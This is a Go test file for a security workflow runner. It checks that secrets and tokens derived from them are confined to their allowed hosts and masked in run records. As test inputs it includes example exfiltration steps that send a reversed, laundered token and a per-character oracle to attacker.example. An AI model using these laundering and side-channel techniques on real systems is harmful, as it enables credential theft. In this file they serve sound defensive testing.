package httpsteps

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/vigil-soc/vigil/kit/netguard"
)

// Issue 27 item 1: what a step receives in exchange for a secret carries the secret's hosts and its
// masking. A token minted with the secret at its own host cannot be sent elsewhere by a later step,
// and it appears in no record.
func TestDerivedValuesKeepTheSecretsHostsAndMasking(t *testing.T) {
	const secret, token = "client-secret-value-1", "minted-graph-token-abcdefghijklmnop"
	issuer := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		w.Header().Set("X-Session", "sess-"+token)
		_, _ = w.Write([]byte(`{"token_type":"Bearer","value":"` + token + `","expires_in":3599}`))
	}))
	defer issuer.Close()
	var otherHits atomic.Int32
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		otherHits.Add(1)
		_, _ = w.Write([]byte(`{}`))
	}))
	defer other.Close()
	steps := func(sendTo string) Config {
		raw, _ := json.Marshal(map[string]any{"steps": []any{
			map[string]any{"name": "token", "method": "POST", "url": issuer.URL + "/token", "form_body": map[string]any{"client_secret": "{{secrets.CS}}"}},
			map[string]any{"name": "mid", "url": issuer.URL + "/mid?x={{steps.token.response.value}}"},
			map[string]any{"name": "send", "method": "POST", "url": sendTo + "/collect", "json_body": map[string]any{"t": "{{steps.mid.status}}{{steps.token.response.value}}"}},
		}})
		cfg, errs := ParseConfig(raw)
		require.Empty(t, errs)
		return cfg
	}
	cfg := steps(other.URL)
	refs, via := cfg.StepTaint(2)
	require.Equal(t, []string{"secrets.CS"}, refs)
	require.Equal(t, "mid", via["secrets.CS"], "read through the nearest step that carries it")
	require.True(t, cfg.StepCarriesSecret(0))
	require.True(t, cfg.StepCarriesSecret(1))
	require.Equal(t, []string{"secrets.CS"}, cfg.StepCredentialRefs(1))

	policy := HostPolicy{"secrets.CS": netguard.NewHostList([]string{strings.TrimPrefix(issuer.URL, "http://")})}
	vars := map[string]any{"indicator": map[string]any{"type": "ip", "value": "192.0.2.1"}, "secrets": map[string]any{"CS": secret}}
	res := NewRunner(http.DefaultClient, WithHostPolicy(policy)).Run(context.Background(), cfg, vars, []string{secret})
	require.False(t, res.Success)
	var he *SecretHostError
	require.ErrorAs(t, res.Err, &he)
	require.Equal(t, "secrets.CS", he.Ref)
	require.Contains(t, res.Error, CodeSecretHostNotAllowed)
	require.Contains(t, res.Error, "step mid's response")
	require.Zero(t, otherHits.Load(), "the other host never saw the token")
	rec, err := json.Marshal(res.Steps)
	require.NoError(t, err)
	require.NotContains(t, string(rec), token, "neither the issuer's answer nor the later request shows the token")
	require.NotContains(t, string(rec), secret)
	require.Contains(t, string(rec), `"expires_in":3599`, "numbers and keys stay readable")
	require.Len(t, res.Steps, 3)
	require.Equal(t, "application/json", res.Steps[0].ResponseHeaders["Content-Type"])

	// To the secret's own host the derived value goes, and is masked in the record there too.
	res = NewRunner(http.DefaultClient, WithHostPolicy(policy)).Run(context.Background(), steps(issuer.URL), vars, []string{secret})
	require.True(t, res.Success, res.Error)
	rec, err = json.Marshal(res.Steps)
	require.NoError(t, err)
	require.NotContains(t, string(rec), token)
	require.Zero(t, otherHits.Load())
}

// What a code step or a for_each derives from a step that carries a secret carries that secret: a
// later request with it may go only to the secret's hosts, and the code's result is masked.
func TestDecisionsCarryTheSecretsOfWhatTheyRead(t *testing.T) {
	const token = "minted-token-0123456789abcdef"
	issuer := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		_, _ = w.Write([]byte(`{"value":"` + token + `","users":["ann","bob"]}`))
	}))
	defer issuer.Close()
	var otherHits atomic.Int32
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		otherHits.Add(1)
		_, _ = w.Write([]byte(`{}`))
	}))
	defer other.Close()
	parse := func(steps ...any) Config {
		raw, _ := json.Marshal(map[string]any{"steps": steps})
		cfg, errs := ParseWorkflowConfig(raw)
		require.Empty(t, errs)
		return cfg
	}
	tokenStep := map[string]any{"name": "token", "method": "POST", "url": issuer.URL + "/token", "form_body": map[string]any{"client_secret": "{{secrets.CS}}"}}
	code := map[string]any{"name": "copy", "kind": "code", "code": "def main(ctx):\n  return ctx['steps']['token']['response']['value']"}
	viaCode := map[string]any{"name": "send", "url": other.URL + "/c?t={{steps.copy.result}}"}
	viaItem := map[string]any{"name": "send", "url": other.URL + "/u/{{item}}", "for_each": "steps.token.response.users"}
	whenOnly := map[string]any{"name": "send", "url": other.URL + "/w", "when": "steps.token.response.value != ''"}
	policy := HostPolicy{"secrets.CS": netguard.NewHostList([]string{strings.TrimPrefix(issuer.URL, "http://")})}
	vars := map[string]any{"indicator": map[string]any{"type": "ip", "value": "192.0.2.1"}, "secrets": map[string]any{"CS": "cs-value"}}

	cfg := parse(tokenStep, code, viaCode)
	require.True(t, cfg.StepCarriesSecret(1), "the code step read the token step")
	refs, via := cfg.StepTaint(2)
	require.Equal(t, []string{"secrets.CS"}, refs)
	require.Equal(t, "copy", via["secrets.CS"])
	res := NewRunner(http.DefaultClient, WithHostPolicy(policy)).Run(context.Background(), cfg, vars, nil)
	require.False(t, res.Success)
	require.Contains(t, res.Error, CodeSecretHostNotAllowed)
	require.NotContains(t, fmt.Sprint(res.Steps[1].Result), token, "the code's result is masked like the response it came from")

	cfg = parse(tokenStep, viaItem)
	refs, _ = cfg.StepTaint(1)
	require.Equal(t, []string{"secrets.CS"}, refs, "items from a step carrying a secret carry it")
	res = NewRunner(http.DefaultClient, WithHostPolicy(policy)).Run(context.Background(), cfg, vars, nil)
	require.Contains(t, res.Error, CodeSecretHostNotAllowed)

	// A when puts nothing into the request, but whether the step fires is a bit of the token per item
	// (R4-1): the step carries the secret as a condition, so it leaves the secret's hosts only in a run
	// a person approved.
	cfg = parse(tokenStep, whenOnly)
	refs, _ = cfg.StepTaint(1)
	require.Empty(t, refs, "a when puts nothing into the request")
	refs, via = cfg.StepConditionTaint(1)
	require.Equal(t, []string{"secrets.CS"}, refs)
	require.Equal(t, "token", via["secrets.CS"])
	res = NewRunner(http.DefaultClient, WithHostPolicy(policy)).Run(context.Background(), cfg, vars, nil)
	require.False(t, res.Success)
	require.Contains(t, res.Error, "only a run a person approved may send it")
	require.Zero(t, otherHits.Load())
	res = NewRunner(http.DefaultClient, WithHostPolicy(policy), WithApprovedRun(true)).Run(context.Background(), cfg, vars, nil)
	require.True(t, res.Success, res.Error)
	require.EqualValues(t, 1, otherHits.Load())
}

// R4-1: taint follows data, not the code's text. A code step reading ctx["st" + "eps"] carries every
// earlier step's credentials; its result is masked whole (a reversed token is not the token); a when
// or for_each naming no step textually ("steps" spelled nowhere but as the identifier) is read from
// its syntax tree.
func TestTaintFollowsDataNotText(t *testing.T) {
	const token = "AT-SECRETDERIVED-7c29082f978c"
	parse := func(steps ...any) Config {
		raw, _ := json.Marshal(map[string]any{"steps": steps})
		cfg, errs := ParseWorkflowConfig(raw)
		require.Empty(t, errs)
		return cfg
	}
	tokenStep := map[string]any{"name": "token", "method": "POST", "url": "https://issuer.example/token", "form_body": map[string]any{"client_secret": "{{secrets.CS}}"}}
	plain := map[string]any{"name": "plain", "url": "https://lookup.example/x"}
	launder := map[string]any{"name": "launder", "kind": "code",
		"code": "def main(ctx):\n    s = ctx[\"st\" + \"eps\"]\n    t = s[\"token\"][\"response\"][\"access_token\"]\n    return {\"rev\": t[::-1], \"chars\": [c for c in t.elems()], \"ords\": [ord(c) for c in t.elems()]}\n"}
	exfil := map[string]any{"name": "exfil", "method": "POST", "url": "https://attacker.example/launder", "headers": map[string]any{"X-Stolen": "{{steps.launder.result.rev}}"}}
	cfg := parse(tokenStep, plain, launder, exfil)
	require.False(t, cfg.StepCarriesSecret(1))
	require.True(t, cfg.StepCarriesSecret(2), "the code step sees every earlier step")
	refs, via := cfg.StepTaint(3)
	require.Equal(t, []string{"secrets.CS"}, refs)
	require.Equal(t, "launder", via["secrets.CS"])

	oracle := map[string]any{"name": "o1", "url": "https://attacker.example/o/{{item.p}}/{{item.c}}",
		"for_each": `[{"p":17,"c":"0"},{"p":17,"c":"7"}]`, "when": `steps["token"].response.access_token.substring(item.p, item.p + 1) == item.c`}
	cfg = parse(tokenStep, plain, oracle)
	refs, _ = cfg.StepTaint(2)
	require.Empty(t, refs, "the items are constants")
	refs, _ = cfg.StepConditionTaint(2)
	require.Equal(t, []string{"secrets.CS"}, refs, "the when reads the token step")
	byName := parse(tokenStep, plain, map[string]any{"name": "o", "url": "https://x.example/", "when": "steps.plain.status == 200"})
	refs, _ = byName.StepConditionTaint(2)
	require.Empty(t, refs, "a when reading only a step carrying nothing carries nothing")
	dynamic := parse(tokenStep, plain, map[string]any{"name": "o", "url": "https://x.example/", "when": "steps[indicator.value].status == 200"})
	refs, _ = dynamic.StepConditionTaint(2)
	require.Equal(t, []string{"secrets.CS"}, refs, "a step chosen at run time may be any earlier step")

	// The record: the laundered result and the item-derived values are masked whole.
	issued := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		_, _ = w.Write([]byte(`{"access_token":"` + token + `"}`))
	}))
	defer issued.Close()
	tokenStep["url"] = issued.URL + "/token"
	plain["url"] = issued.URL + "/plain"
	whenValue := map[string]any{"name": "w", "kind": "code", "when": "steps.token.response.access_token.reverse()", "code": "def main(ctx):\n    return 1\n"}
	cfg = parse(tokenStep, plain, launder, whenValue)
	vars := map[string]any{"indicator": map[string]any{"type": "ip", "value": "192.0.2.1"}, "secrets": map[string]any{"CS": "cs-value"}}
	res := NewRunner(http.DefaultClient).Run(context.Background(), cfg, vars, nil)
	require.True(t, res.Success, res.Error)
	require.Equal(t, MaskedValue, res.Steps[2].Result)
	require.Equal(t, MaskedValue, res.Steps[3].WhenValue)
	byItem := parse(tokenStep, map[string]any{"name": "i", "kind": "code", "for_each": "[steps.token.response.access_token.reverse()]",
		"when": "item", "code": "def main(ctx):\n    return 1\n"})
	res = NewRunner(http.DefaultClient).Run(context.Background(), byItem, vars, nil)
	require.True(t, res.Success, res.Error)
	require.Equal(t, MaskedValue, res.Steps[1].Items[0].Item)
	require.Equal(t, MaskedValue, res.Steps[1].Items[0].WhenValue, "a when giving the item gives what the item holds")
	rec, _ := json.Marshal(res.Steps)
	for _, leak := range []string{token, "c879f28092c7-DEVIREDTERCES-TA", `"A","T","-"`, "65,84,45"} {
		require.NotContains(t, string(rec), leak)
	}
}
